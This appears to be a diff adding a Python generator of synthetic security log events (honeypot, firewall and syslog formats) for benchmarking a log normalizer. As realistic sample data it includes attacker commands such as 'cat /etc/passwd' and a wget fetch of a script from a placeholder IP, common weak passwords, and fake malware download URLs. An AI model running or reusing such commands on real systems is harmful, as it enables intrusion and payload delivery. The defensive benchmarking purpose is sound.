@@ -0,0 +1,208 @@
+"""
+Генераторы синтетических событий для бенчмарков.
+
+raw_data каждого типа совпадает с тем, что ожидает LogNormalizer (api/normalizer.py),
+поэтому события проходят тот же путь, что и реальные логи. Генерация детерминирована
+(random.Random(seed)), чтобы прогоны можно было сравнивать между изменениями.
+"""
+import random
+import uuid
+from datetime import datetime, timedelta
+from typing import Any, Callable, Dict, Iterator, List
+
+LOG_TYPES = ["cowrie_ssh", "palo_alto_firewall", "fortinet_firewall", "generic_syslog", "dionaea_malware", "t_pot"]
+
+USERNAMES = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "pi", "user", "guest", "git"]
+PASSWORDS = ["123456", "password", "admin", "root", "qwerty", "letmein", "toor", "1q2w3e4r"]
+COMMANDS = ["uname -a", "cat /etc/passwd", "wget http://198.51.100.7/x.sh", "ls -la", "whoami", "nproc"]
+COWRIE_EVENTS = [
+    "cowrie.login.failure", "cowrie.login.failure", "cowrie.login.failure",
+    "cowrie.login.success", "cowrie.command.input", "cowrie.session.connect"
+]
+SERVICES = ["HTTP", "HTTPS", "SSH", "DNS", "SMB", "RDP", "TELNET"]
+PORTS = [22, 23, 53, 80, 443, 445, 3389, 8080, 8443]
+DIONAEA_PROTOCOLS = [("smbd", 445), ("httpd", 80), ("ftpd", 21), ("mssqld", 1433), ("mysqld", 3306)]
+TPOT_HONEYPOTS = ["Cowrie", "Dionaea", "Suricata", "Honeytrap", "Heralding"]
+RAW_FORMATS = ["cef", "leef", "rfc5424", "rfc3164"]
+MONTH_NAMES = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
+SURICATA_SIGNATURES = [
+    "ET SCAN Potential SSH Scan", "ET SCAN NMAP -sS window 1024",
+    "ET EXPLOIT Possible ETERNALBLUE MS17-010", "GPL ICMP_INFO PING *NIX"
+]
+SYSLOG_MESSAGES = [
+    "sshd[{pid}]: Failed password for invalid user {user} from {ip} port {port} ssh2",
+    "kernel: [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST=10.0.0.5 PROTO=TCP SPT={port} DPT=22",
+    "bgp[{pid}]: BGP neighbor {ip} state changed from Established to Idle",
+    "ifmgr[{pid}]: Interface ge-0/0/{n} changed state to down",
+    "ospfd[{pid}]: OSPF neighbor {ip} on ge-0/0/{n} state Full -> Down",
+    "CRON[{pid}]: (root) CMD (run-parts /etc/cron.hourly)",
+    "systemd[1]: Started Session {n} of user {user}."
+]
+
+
+class EventGenerator:
+    """Поток синтетических событий в формате тела POST /api/v1/logs"""
+
+    def __init__(self, seed: int = 42, log_types: List[str] = None, attackers: int = 50):
+        self.random = random.Random(seed)
+        self.log_types = log_types or LOG_TYPES
+        # Небольшой пул атакующих адресов — чтобы детекторы брутфорса/сканов срабатывали
+        self.attackers = [self._ip() for _ in range(attackers)]
+        self.builders: Dict[str, Callable[[], Dict[str, Any]]] = {
+            "cowrie_ssh": self.cowrie_ssh,
+            "palo_alto_firewall": self.palo_alto,
+            "fortinet_firewall": self.fortinet,
+            "generic_syslog": self.syslog,
+            "dionaea_malware": self.dionaea,
+            "t_pot": self.t_pot
+        }
+
+    def event(self, log_type: str = None, timestamp: datetime = None) -> Dict[str, Any]:
+        log_type = log_type or self.random.choice(self.log_types)
+        return {
+            "event_id": str(uuid.UUID(int=self.random.getrandbits(128))),
+            "source": f"bench-{log_type}",
+            "log_type": log_type,
+            "timestamp": (timestamp or datetime.utcnow()).isoformat(),
+            "raw_data": self.builders[log_type]()
+        }
+
+    def stream(self, count: int, start: datetime = None, step_seconds: float = 0.0) -> Iterator[Dict[str, Any]]:
+        """count событий; при step_seconds > 0 время событий идет с заданным шагом от start"""
+        start = start or datetime.utcnow()
+        for i in range(count):
+            timestamp = start + timedelta(seconds=i * step_seconds) if step_seconds else None
+            yield self.event(timestamp=timestamp)
+
+    def raw_line(self, fmt: str = None, timestamp: datetime = None) -> str:
+        """Сырая строка, как ее пишут устройства в /var/log или шлют по syslog (см. api/raw_parsers.py)"""
+        fmt = fmt or self.random.choice(RAW_FORMATS)
+        timestamp = timestamp or datetime.utcnow()
+        host = f"host-{self.random.randint(1, 20):02d}"
+        if fmt == "cef":
+            data = self.palo_alto()
+            escaped = "" if self.random.random() < 0.9 else " cs2Label=Comment cs2=path C:\\\\tmp a\\=b"
+            return (
+                f"<134>{self._bsd_time(timestamp)} {host} CEF:0|Palo Alto Networks|PAN-OS|10.1|TRAFFIC|end|3|"
+                f"src={data['src']} dst={data['dst']} spt={data['spt']} dpt={data['dpt']} act={data['act']} "
+                f"cs1Label=Rule cs1={data['rule']} out={data['bytes']} msg={data['message']}{escaped}"
+            )
+        if fmt == "leef":
+            data = self.fortinet()
+            return (
+                f"LEEF:1.0|Fortinet|FortiGate|7.0|traffic|src={data['srcip']}\tdst={data['dstip']}\t"
+                f"srcPort={data['srcport']}\tdstPort={data['dstport']}\tproto=TCP\tsev=5\taction={data['action']}"
+            )
+        data = self.syslog()
+        pri = self.random.randint(0, 191)
+        if fmt == "rfc5424":
+            app, _, message = data["message"].partition(": ")
+            sd = "-" if self.random.random() < 0.8 else f'[origin@32473 ip="{self.random.choice(self.attackers)}" software="wqe\\"x"]'
+            return f"<{pri}>1 {timestamp.isoformat()}Z {data['hostname']} {app.split('[')[0]} - - {sd} {message}"
+        return f"<{pri}>{self._bsd_time(timestamp)} {data['hostname']} {data['message']}"
+
+    @staticmethod
+    def _bsd_time(timestamp: datetime) -> str:
+        return f"{MONTH_NAMES[timestamp.month - 1]} {timestamp.day:2d} {timestamp.strftime('%H:%M:%S')}"
+
+    def cowrie_ssh(self) -> Dict[str, Any]:
+        event_id = self.random.choice(COWRIE_EVENTS)
+        data = {
+            "eventid": event_id,
+            "src_ip": self.random.choice(self.attackers),
+            "src_port": self.random.randint(1024, 65535),
+            "dst_ip": "10.0.0.5",
+            "dst_port": 22,
+            "session": uuid.UUID(int=self.random.getrandbits(128)).hex[:12],
+            "message": f"{event_id} session"
+        }
+        if event_id.startswith("cowrie.login"):
+            data["username"] = self.random.choice(USERNAMES)
+            data["password"] = self.random.choice(PASSWORDS)
+            data["success"] = event_id == "cowrie.login.success"
+        elif event_id == "cowrie.command.input":
+            data["input"] = self.random.choice(COMMANDS)
+        return data
+
+    def palo_alto(self) -> Dict[str, Any]:
+        action = self.random.choice(["allow", "allow", "deny", "drop"])
+        return {
+            "src": self.random.choice(self.attackers),
+            "dst": f"10.0.{self.random.randint(0, 3)}.{self.random.randint(1, 254)}",
+            "spt": self.random.randint(1024, 65535),
+            "dpt": self.random.choice(PORTS),
+            "act": action,
+            "rule": self.random.choice(["default-deny", "allow-web", "block-smb", "geo-block"]),
+            "bytes": self.random.randint(40, 150000),
+            "threatid": self.random.choice([None, None, "9999", "30000", "41000"]),
+            "severity": self.random.choice(["informational", "low", "medium", "high", "critical"]),
+            "message": f"TRAFFIC {action} {self.random.choice(SERVICES)}"
+        }
+
+    def fortinet(self) -> Dict[str, Any]:
+        action = self.random.choice(["accept", "accept", "deny", "close"])
+        return {
+            "srcip": self.random.choice(self.attackers),
+            "dstip": f"10.1.{self.random.randint(0, 3)}.{self.random.randint(1, 254)}",
+            "srcport": self.random.randint(1024, 65535),
+            "dstport": self.random.choice(PORTS),
+            "action": action,
+            "service": self.random.choice(SERVICES),
+            "sentbyte": self.random.randint(40, 150000),
+            "message": f"type=traffic subtype=forward action={action}"
+        }
+
+    def syslog(self) -> Dict[str, Any]:
+        template = self.random.choice(SYSLOG_MESSAGES)
+        message = template.format(
+            pid=self.random.randint(100, 65000),
+            user=self.random.choice(USERNAMES),
+            ip=self.random.choice(self.attackers),
+            port=self.random.randint(1024, 65535),
+            n=self.random.randint(0, 47)
+        )
+        return {
+            "message": message,
+            "facility": self.random.choice(["auth", "kern", "daemon", "cron", "local7"]),
+            "severity": self.random.choice(["info", "notice", "warning", "err", "crit"]),
+            "hostname": f"host-{self.random.randint(1, 20):02d}"
+        }
+
+    def dionaea(self) -> Dict[str, Any]:
+        protocol, port = self.random.choice(DIONAEA_PROTOCOLS)
+        data = {
+            "connection": {
+                "protocol": protocol,
+                "transport": "tcp",
+                "type": "accept",
+                "local": {"address": "10.0.0.7", "port": port},
+                "remote": {"address": self.random.choice(self.attackers), "port": self.random.randint(1024, 65535)}
+            }
+        }
+        if self.random.random() < 0.3:
+            md5 = "%032x" % self.random.getrandbits(128)
+            data["downloads"] = [{"md5_hash": md5, "url": f"http://{self.random.choice(self.attackers)}/{md5[:8]}.exe"}]
+        return data
+
+    def t_pot(self) -> Dict[str, Any]:
+        honeypot = self.random.choice(TPOT_HONEYPOTS)
+        data = {
+            "type": honeypot,
+            "src_ip": self.random.choice(self.attackers),
+            "src_port": self.random.randint(1024, 65535),
+            "dest_ip": "10.0.0.9",
+            "dest_port": self.random.choice(PORTS),
+            "geoip": {"country_name": self.random.choice(["China", "Russia", "United States", "Brazil"])}
+        }
+        if honeypot == "Cowrie":
+            data.update(self.cowrie_ssh())
+            data.pop("dst_ip")
+            data.pop("dst_port")
+        elif honeypot == "Suricata":
+            data["event_type"] = "alert"
+            data["proto"] = "TCP"
+            data["alert"] = {"signature": self.random.choice(SURICATA_SIGNATURES), "severity": self.random.randint(1, 3)}
+        return data
+
+    def _ip(self) -> str:
+        return ".".join(str(self.random.randint(1, 254)) for _ in range(4))